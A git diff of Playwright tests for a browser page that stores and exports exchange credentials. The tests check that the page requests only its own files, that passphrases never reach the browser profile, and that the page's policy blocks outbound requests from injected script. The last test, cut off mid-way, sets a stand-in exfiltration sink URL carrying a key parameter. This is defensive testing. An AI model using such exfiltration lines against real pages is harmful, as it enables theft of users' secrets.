@@ -4,10 +4,10 @@ import { mkdtemp, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import config from "../../playwright.config.js";
-import { EXCHANGE, card, downloaded, expect, serveAt, store, test } from "./support/page.js";
+import { EXCHANGE, card, downloaded, expect, exportAs, openCard, paste, serveAt, store, test } from "./support/page.js";
 import { searchProfile } from "./support/profile.js";
 import { entriesOf, secretsOf, vectors } from "./support/vectors.js";
-import { recoverUnconfirmed } from "./support/wallet-door.js";
+import { recoverUnconfirmed } from "./support/wallet-flow.js";
 import { addWallet } from "./support/wallets.js";
 
 const [vector, other] = vectors;
@@ -22,15 +22,16 @@ test("the page asks for its own files and nothing else, whatever is done with it
   await page.goto(EXCHANGE);
   await recoverUnconfirmed(page);
   for (const label of ["STARK private key", "API secret", "API passphrase"]) {
-    await card(page, vector).getByRole("button", { name: `Reveal: ${label}` }).click();
+    await card(page, vector).getByRole("button", { name: `Show: ${label}` }).click();
   }
-  await page.getByRole("button", { name: "Save to this browser" }).click();
+  await page.getByRole("button", { name: "Save in this browser" }).click();
   await page.getByRole("button", { name: "Save", exact: true }).click();
-  await page.getByRole("button", { name: "Export credentials" }).click();
+  await exportAs(page, "My own code", "JSON");
   await downloaded(page, () => page.getByRole("button", { name: "Save file" }).click());
-  await card(page, other).getByRole("button", { name: "Remove from this browser" }).click();
-  await page.getByRole("button", { name: "Remove", exact: true }).click();
-  await expect(page.locator(".status")).toContainText("Removed");
+  await openCard(page, other);
+  await card(page, other).getByRole("button", { name: "Delete from this browser" }).click();
+  await page.getByRole("button", { name: "Delete", exact: true }).click();
+  await expect(page.locator(".status")).toContainText("Deleted");
 
   const files = new Set(requests.map(({ url }) => url.replace(EXCHANGE, "")));
   for (const file of files) {
@@ -44,7 +45,7 @@ test("the page asks for its own files and nothing else, whatever is done with it
 
 test("no passphrase gets into the browser's profile, shown or not", async () => {
   const profile = await mkdtemp(join(tmpdir(), "profile-"));
-  const typed = { searched: "encrypted-or-not", own: "a passphrase of my own, shown", again: "hidden the second time", opening: "a passphrase to open with" };
+  const typed = { control: "no-secret-at-all", own: "a passphrase of my own, shown", again: "hidden the second time", opening: "a passphrase to open with" };
   try {
     const { launchOptions, acceptDownloads } = config.use ?? {};
     const context = await chromium.launchPersistentContext(profile, { ...launchOptions, acceptDownloads });
@@ -54,26 +55,26 @@ test("no passphrase gets into the browser's profile, shown or not", async () => 
       const page = context.pages()[0];
       await store(page, entriesOf([vector]));
       await page.goto(EXCHANGE);
-      const door = page.getByRole("region", { name: "A file or a text" });
-      await door.locator("textarea").fill("age-encryption.org/v1\n-> scrypt");
-      await door.getByRole("button", { name: "Read the text" }).click();
-      await door.getByRole("textbox", { name: "Passphrase of the backup" }).fill(typed.opening);
-      await door.getByRole("button", { name: "Reveal: Passphrase of the backup" }).click();
-      await page.getByRole("button", { name: "Export credentials" }).click();
+      await paste(page, "age-encryption.org/v1\n-> scrypt");
+      await page.getByRole("textbox", { name: "Backup password" }).fill(typed.opening);
+      await page.getByRole("button", { name: "Show: Backup password" }).click();
+      await page.evaluate(() => document.body.append(Object.assign(document.createElement("input"), { id: "control" })));
+      await page.locator("#control").fill(typed.control);
+      // What a page has in its fields is written when it is left.
+      await page.goto("about:blank");
+      await page.goto(EXCHANGE);
+      await exportAs(page, "Safekeeping", "Encrypted backup");
       const dialog = page.getByRole("dialog");
-      await dialog.getByRole("radio", { name: "Encrypted backup" }).check();
-      const words = dialog.getByRole("status", { name: "Passphrase" });
+      const words = dialog.getByRole("status", { name: "Backup password" });
       await expect(words).toHaveText(/-/);
       made = await words.innerText();
-      await dialog.getByRole("radio", { name: "A passphrase of your own" }).check();
-      await dialog.getByRole("textbox", { name: "Passphrase" }).fill(typed.own);
-      await dialog.getByRole("button", { name: "Reveal: Passphrase" }).click();
-      await expect(dialog.getByRole("textbox", { name: "Passphrase" })).toHaveAttribute("type", "text");
-      await dialog.getByRole("textbox", { name: "Once more" }).fill(typed.again);
-      await dialog.getByRole("searchbox").fill(typed.searched);
-      await dialog.getByRole("radio", { name: "A passphrase made for you" }).check();
+      await dialog.getByRole("radio", { name: "A password of my own" }).check();
+      await dialog.getByRole("textbox", { name: "Backup password" }).fill(typed.own);
+      await dialog.getByRole("button", { name: "Show: Backup password" }).click();
+      await expect(dialog.getByRole("textbox", { name: "Backup password" })).toHaveAttribute("type", "text");
+      await dialog.getByRole("textbox", { name: "Repeat it" }).fill(typed.again);
+      await dialog.getByRole("radio", { name: "A suggested password" }).check();
       await expect(words).toBeVisible();
-      // What a page has in its fields is written when it is left.
       await page.goto("about:blank");
     } finally {
       await context.close();
@@ -81,7 +82,7 @@ test("no passphrase gets into the browser's profile, shown or not", async () => 
     const isIn = await searchProfile(profile);
     for (const secret of [made, typed.own, typed.again, typed.opening]) expect(isIn(secret), secret).toBe(false);
     // The control: what is typed into a field that holds no secret is found.
-    expect(isIn(typed.searched)).toBe(true);
+    expect(isIn(typed.control)).toBe(true);
   } finally {
     await rm(profile, { recursive: true, force: true, maxRetries: 5 });
   }
@@ -93,7 +94,7 @@ test.describe(() => {
   test("the page's policy stops every way out, also for a script that gets in", async ({ page, context }) => {
     const requests = await serveAt(context);
     await page.goto(EXCHANGE);
-    await expect(page.getByRole("heading", { name: "This browser" })).toBeVisible();
+    await expect(page.getByRole("heading", { name: "Where are your keys?" })).toBeVisible();
     const before = requests.length;
     const stopped = await page.evaluate(async () => {
       const sink = "https://sink.example/?key=1";
